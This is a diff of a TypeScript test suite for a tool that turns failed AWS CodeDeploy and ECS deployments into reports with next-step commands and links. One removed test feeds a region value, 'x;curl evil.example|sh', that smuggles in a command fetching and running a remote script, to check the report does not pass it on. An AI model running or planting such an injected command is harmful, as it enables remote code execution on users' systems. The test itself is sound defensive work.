@@ -1,9 +1,19 @@
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
 import fc from 'fast-check'
+import { lastSuccess } from '../../../src/deployment/evidence.ts'
+import type { Target } from '../../../src/deployment/model.ts'
 import { type Report, report } from '../../../src/report/report.ts'
 import { atOnce } from '../../../src/time/turns.ts'
 import { essence } from '../../../tools/watch/essence.ts'
+import {
+  aFailedEvent,
+  aFailedInstance,
+  anEcsTarget,
+  anOutcome,
+  aSnapshot,
+  scriptFailed,
+} from '../../support/deployments.ts'
 import { hostileOutcome } from '../../support/hostile-outcomes.ts'
 import { outcomeRuns } from '../../support/hostile-texts.ts'
 import { outcomes } from '../../support/outcomes/outcomes.ts'
@@ -53,23 +63,34 @@ test('invalid inputs are called so', () => {
   assert.match(textOf('bad-inputs'), /^\nThe deployment: the inputs are invalid\n/)
 })
 
-test('the first instance of each cause can be opened with a command, other targets cannot', () => {
-  const withTargets = (...ids: readonly string[]) =>
-    textOf('denied', it => ({ ...it, failures: ids.map(id => ({ ...causeOf(it), targetIds: [id] })) }))
-  const [ec2, onPremises] = [withTargets('i-0123456789abcdef0'), withTargets('rack-7')]
-  assert.match(
-    ec2,
-    /- Open the instance: aws ssm start-session --target i-0123456789abcdef0 --region eu-central-1\n/,
-  )
-  assert.doesNotMatch(onPremises, /start-session/)
-  const region = 'x;curl evil.example|sh'
-  const elsewhere = textOf('denied', it => ({
-    ...it,
-    region,
-    failures: [{ ...causeOf(it), targetIds: ['i-0123456789abcdef0'] }],
-  }))
-  assert.match(elsewhere, /- Open the instance: aws ssm start-session --target i-0123456789abcdef0\n/)
-  assert.equal(withTargets('i-0123456789abcdef0', 'i-0123456789abcdef0').split('start-session').length, 2)
+/** A report in which each of these targets failed for a reason of its own. */
+function failedOn(...targets: readonly Target[]): string {
+  const outcome = anOutcome({ snapshot: aSnapshot({ status: 'Failed' }, targets) })
+  return essence(parsed(outcome), path)
+}
+
+const onInstance = (id: string, script = 'start.sh') =>
+  aFailedInstance(id, aFailedEvent('Install', 1, scriptFailed({ scriptName: script })))
+const scriptsLog = 'sudo less /opt/codedeploy-agent/deployment-root/*/d-ABCDEF123/logs/scripts.log'
+
+test('the next steps open the first instance of each cause, and the whole log there', () => {
+  const session = 'aws ssm start-session --region eu-central-1 --target'
+  const id = (digit: number) => `i-0123456789abcdef${digit}`
+  const text = failedOn(onInstance(id(0)), onInstance(id(1)), onInstance(id(2), 'check.sh'))
+  for (const first of [id(0), id(2)])
+    assert.ok(text.includes(`\n  - ${session} ${first}, then ${scriptsLog}\n`), text)
+  assert.equal(text.split(`\n  - ${session}`).length, 3)
+})
+
+test('an instance on premises has no session to open, only the log', () => {
+  assert.ok(failedOn(onInstance('rack-7')).includes(`\nNext steps\n  - ${scriptsLog}\n`))
+})
+
+test('the next steps after a failure of ECS are the pages of its service', () => {
+  const failing = { status: 'Failed', lifecycleEvents: [aFailedEvent('Install', 1)] }
+  const text = failedOn(anEcsTarget({ ...failing, id: 'production:shop' }))
+  assert.match(text, /\n {2}- Events of the service shop: https:\S+\/services\/shop\/events\?/)
+  assert.match(text, /\n {2}- Tasks of the service shop: https:\S+\/services\/shop\/tasks\?/)
 })
 
 test('of many causes the first ten are shown, and the others counted', () => {
@@ -80,6 +101,16 @@ test('of many causes the first ten are shown, and the others counted', () => {
   assert.match(text, /rack-9\n/)
   assert.doesNotMatch(text, /rack-10/)
   assert.match(text, /\n {2}2 more causes in the report\.\n/)
+})
+
+test('the last success is a sentence, not evidence', () => {
+  const last = `${lastSuccess} d-BEFORE123`
+  const evidence = [
+    { source: 'codedeploy', about: 'shop', at: null, text: last },
+  ] as unknown as Report['evidence']
+  const text = textOf('denied', it => ({ ...it, evidence }))
+  assert.match(text, /\n\nThe last successful deployment of this group was d-BEFORE123\n\nNext steps\n/)
+  assert.doesNotMatch(text, /Evidence/)
 })
 
 test('what other services say is shown', () => {
